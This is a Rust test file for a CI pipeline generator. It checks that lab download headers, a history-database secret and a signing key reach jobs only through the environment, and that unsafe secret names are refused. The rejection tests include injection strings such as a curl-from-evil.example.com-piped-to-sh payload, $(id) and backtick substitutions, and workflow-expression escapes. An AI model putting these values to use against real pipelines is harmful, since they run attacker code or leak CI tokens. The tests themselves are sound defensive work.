//! CI secrets (download headers, the history database, the signing key) reach only the
//! steps that need them, through the environment, and only under plain names.

use super::*;

/// `--history-db-secret NAME` reaches a workflow expression (`${{ secrets.NAME }}`) and a shell
/// (`"$NAME"`): anything but a plain identifier is refused (exit 2, one line) before a pipeline
/// is written, so no name can close the expression or the quotes.
/// `ci --lava --qcomflash-header NAME=SECRET` (#33: the Qualcomm lab's download headers): each
/// LAVA job's `rtbuild lava` gets `--qcomflash-header NAME=VAR` as one word, VAR the GitLab
/// masked variable itself or the GitHub job variable that holds `${{ secrets.SECRET }}`; the
/// header's value is never in the file. A header name with shell characters stays one word.
#[test]
fn download_header_secrets_reach_the_lava_job_through_the_environment() {
    let header = "X-Lab'$PATH`id`|&";
    for format in ["gitlab", "github"] {
        let second = format!("{header}=LAB_B");
        let mut flags: Vec<&str> = argv(&[&["--lava", "--format", format]]);
        flags.extend(["--qcomflash-header", "QLIAuthorization=QCOM_LAB_TOKEN"]);
        flags.extend(["--qcomflash-header", &second]);
        let args = ci_args(&flags);
        let text = pipeline_text(&args).expect(format);
        let commands = parsed_commands(&text, "rb3gen2-core-kit", "qcom-distro");
        let lava = commands
            .iter()
            .find_map(|(_, cli)| match cli.as_ref().map(|c| &c.command) {
                Some(Command::Lava(lava)) => Some(lava),
                _ => None,
            })
            .expect("a LAVA job");
        let want: Vec<String> = match format {
            "gitlab" => vec!["QLIAuthorization=QCOM_LAB_TOKEN".into(), format!("{header}=LAB_B")],
            _ => vec![
                "QLIAuthorization=RTBUILD_QCOMFLASH_HEADER_1".into(),
                format!("{header}=RTBUILD_QCOMFLASH_HEADER_2"),
            ],
        };
        assert_eq!(lava.qcomflash_header, want, "{format}");
        let yaml: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
        if format == "github" {
            let env = &yaml["jobs"]["lava"]["env"];
            assert_eq!(
                env["RTBUILD_QCOMFLASH_HEADER_1"], "${{ secrets.QCOM_LAB_TOKEN }}",
                "{text}"
            );
            assert_eq!(env["RTBUILD_QCOMFLASH_HEADER_2"], "${{ secrets.LAB_B }}", "{text}");
            // The secret appears in the job's env only, never in a script.
            assert_eq!(text.matches("secrets.QCOM_LAB_TOKEN").count(), 1, "{text}");
        } else {
            // GitLab hands the job its masked variable: nothing names it but the flag.
            assert_eq!(text.matches("QCOM_LAB_TOKEN").count(), 1, "{text}");
        }
    }
}

#[test]
fn a_download_header_secret_that_is_no_plain_name_is_refused() {
    let too_many: Vec<String> = (0..9).map(|k| format!("H{k}=S{k}")).collect();
    let cases: Vec<(Vec<&str>, &str)> = vec![
        (vec!["QLIAuthorization"], "bad --qcomflash-header `QLIAuthorization`; pass NAME=VAR"),
        (vec!["A=$(id)"], "bad --qcomflash-header `A=$(id)`; pass NAME=VAR"),
        (vec!["A=S }}${{ github.token"], "bad --qcomflash-header"),
        (vec!["A B=S"], "bad --qcomflash-header"),
        (vec!["A=GITHUB_TOKEN"], "GitHub reserves secret names starting GITHUB_"),
        (vec!["A=LAVA_TOKEN"], "the LAVA job sets that variable itself"),
        (vec!["A=RTBUILD_DB"], "the LAVA job sets that variable itself"),
        (vec!["A=S1", "a=S2"], "that header is given twice"),
        (too_many.iter().map(String::as_str).collect(), "more than 8 headers"),
    ];
    for (flags, want) in cases {
        for format in ["gitlab", "github"] {
            let mut extra: Vec<&str> = argv(&[&["--lava", "--format", format]]);
            for flag in &flags {
                extra.extend(["--qcomflash-header", flag]);
            }
            let args = ci_args(&extra);
            let err = pipeline_text(&args).expect_err(want);
            assert_eq!(err.code(), crate::error::Exit::Usage, "{flags:?}: {err}");
            let text = err.to_string();
            assert!(!text.contains('\n') && text.contains(want), "{flags:?}: {text}");
            assert!(text.contains("; pass NAME="), "{flags:?}: says what to pass: {text}");
        }
    }
}

#[test]
fn a_history_secret_that_is_no_plain_name_is_refused() {
    for name in [
        "",
        "DB }}${{ github.token",
        "DB\" ; curl evil.example.com | sh ; \"",
        "DB$(id)",
        "DB`id`",
        "DB-URL",
        "DB URL",
        "DB\nX",
        "1DB",
        "GITHUB_TOKEN",
        "github_db",
        "DB.URL",
        "DÜ",
    ] {
        for format in ["gitlab", "github"] {
            let args =
                ci_args(&argv(&[&["--lava", "--format", format], &["--history-db-secret", name]]));
            let err = pipeline_text(&args).expect_err(name);
            assert_eq!(err.code(), crate::error::Exit::Usage, "{name:?}: {err}");
            let text = err.to_string();
            assert!(!text.contains('\n'), "one line: {text}");
            assert!(text.starts_with("bad --history-db-secret `"), "{text}");
            assert!(text.contains("; pass the name of the secret"), "{text}");
        }
    }
    for name in ["RTBUILD_HISTORY_DB", "_db", "Lab_DB_2"] {
        let args = ci_args(&argv(&[&["--lava"], &["--history-db-secret", name]]));
        let text = pipeline_text(&args).expect(name);
        assert!(text.contains(&format!("export RTBUILD_DB=\"${name}\"")), "{text}");
        let args =
            ci_args(&argv(&[&["--lava", "--format", "github"], &["--history-db-secret", name]]));
        let text = pipeline_text(&args).expect(name);
        assert!(text.contains(&format!("RTBUILD_DB: ${{{{ secrets.{name} }}}}")), "{text}");
    }
    // Without --lava there is no LAVA job to record: clap refuses it.
    let err = Cli::try_parse_from(
        ["rtbuild", "ci", "--format", "gitlab", "--machines", "x"].into_iter().chain([
            "--rtbuild-from",
            "crates",
            "--history-db-secret",
            "DB",
        ]),
    )
    .expect_err("needs --lava");
    assert_eq!(err.kind(), clap::error::ErrorKind::MissingRequiredArgument);
}

/// Issue 38: `ci --signing-key-secret NAME` signs each bundle. The secret reaches one GitHub step
/// through its `env:` (`${{ secrets.NAME }}`, in the deployment environment `rtbuild-signing`)
/// and GitLab's script as the masked variable itself (`"$NAME"`); no script holds a workflow
/// expression or the key, the key file is made in a `mktemp -d` folder under `umask 077` and
/// removed by the subshell's EXIT trap, and the envelope and public key are kept and summed.
#[test]
fn a_signing_key_secret_reaches_one_step_through_the_environment() {
    for format in ["gitlab", "github"] {
        let args = ci_args(&argv(&[
            &["--format", format],
            &["--signing-key-secret", "RELEASE_SIGNING_KEY"],
        ]));
        let text = pipeline_text(&args).expect(format);
        let yaml: serde_yaml::Value = serde_yaml::from_str(&text).unwrap();
        let (var, script) = match format {
            "gitlab" => {
                let script: Vec<String> = yaml["rtbuild-image"]["script"]
                    .as_sequence()
                    .unwrap()
                    .iter()
                    .map(|l| l.as_str().unwrap().to_string())
                    .collect();
                // GitLab hands the job its masked variable: the script reads it, nothing sets it.
                assert!(yaml["rtbuild-image"].get("variables").is_some());
                assert!(yaml["rtbuild-image"]["variables"].get("RELEASE_SIGNING_KEY").is_none());
                ("RELEASE_SIGNING_KEY", script.join("\n"))
            }
            _ => {
                let job = &yaml["jobs"]["image"];
                assert_eq!(job["environment"], "rtbuild-signing", "{text}");
                let steps = job["steps"].as_sequence().unwrap();
                let sign: Vec<&serde_yaml::Value> =
                    steps.iter().filter(|s| s["name"] == "Bundle and sign").collect();
                assert_eq!(sign.len(), 1, "{text}");
                assert_eq!(
                    sign[0]["env"]["RTBUILD_SIGNING_KEY"], "${{ secrets.RELEASE_SIGNING_KEY }}",
                    "{text}"
                );
                // Only that step has the secret: not the job, not the build step.
                assert_eq!(text.matches("secrets.RELEASE_SIGNING_KEY").count(), 1, "{text}");
                assert!(job["env"].get("RTBUILD_SIGNING_KEY").is_none(), "{text}");
                ("RTBUILD_SIGNING_KEY", sign[0]["run"].as_str().unwrap().to_string())
            }
        };
        assert!(
            script.contains(&format!(
                "(key_dir=\"$(mktemp -d)\" && trap 'rm -rf -- \"$key_dir\"' EXIT && (umask 077 && case \"${var}\" in -----BEGIN*) printf '%s\\n' \"${var}\" ;; *) printf '%s' \"${var}\" | base64 -d ;; esac > \"$key_dir/signing-key.pem\") && rtbuild bundle --machine \"$MACHINE\""
            )),
            "{script}"
        );
        assert!(script.contains(&format!("test -n \"${var}\" || {{ echo \"error: the CI secret RELEASE_SIGNING_KEY (the bundle's signing key) is empty or not set; set it in the CI settings\" >&2; exit 2; }}")), "{script}");
        assert!(text.contains("*.manifest.json *.intoto.json *.pub.pem > SHA256SUMS"), "{text}");
        assert!(text.contains("bundle/*.intoto.json"), "{text}");
        assert!(text.contains("bundle/*.pub.pem"), "{text}");
        jobs_build_the_plan(&args, &text);
    }
}

/// `--signing-key-secret NAME` reaches a workflow expression and a shell: anything but a plain
/// identifier, a GitHub-reserved name or a variable the jobs set is refused (exit 2, one line)
/// before a pipeline is written.
#[test]
fn a_signing_key_secret_that_is_no_plain_name_is_refused() {
    for name in [
        "",
        "KEY }}${{ github.token",
        "KEY\" ; curl evil.example.com | sh ; \"",
        "KEY$(id)",
        "KEY`id`",
        "KEY-1",
        "KEY 1",
        "KEY\nX",
        "1KEY",
        "GITHUB_TOKEN",
        "DÜ",
        "PATH",
        "MACHINE",
        "key_dir",
    ] {
        for format in ["gitlab", "github"] {
            let args = ci_args(&argv(&[&["--format", format], &["--signing-key-secret", name]]));
            let err = pipeline_text(&args).expect_err(name);
            assert_eq!(err.code(), crate::error::Exit::Usage, "{name:?}: {err}");
            let text = err.to_string();
            assert!(!text.contains('\n'), "one line: {text}");
            assert!(text.starts_with("bad --signing-key-secret `"), "{text}");
            assert!(text.contains("; pass the name of the secret"), "{text}");
        }
    }
    for name in ["RELEASE_SIGNING_KEY", "RTBUILD_SIGNING_KEY", "_key2"] {
        let args = ci_args(&argv(&[&["--signing-key-secret", name]]));
        let text = pipeline_text(&args).expect(name);
        assert!(text.contains(&format!("test -n \"${name}\" ||")), "{text}");
        let args = ci_args(&argv(&[&["--format", "github"], &["--signing-key-secret", name]]));
        let text = pipeline_text(&args).expect(name);
        assert!(
            text.contains(&format!("RTBUILD_SIGNING_KEY: ${{{{ secrets.{name} }}}}")),
            "{text}"
        );
    }
}
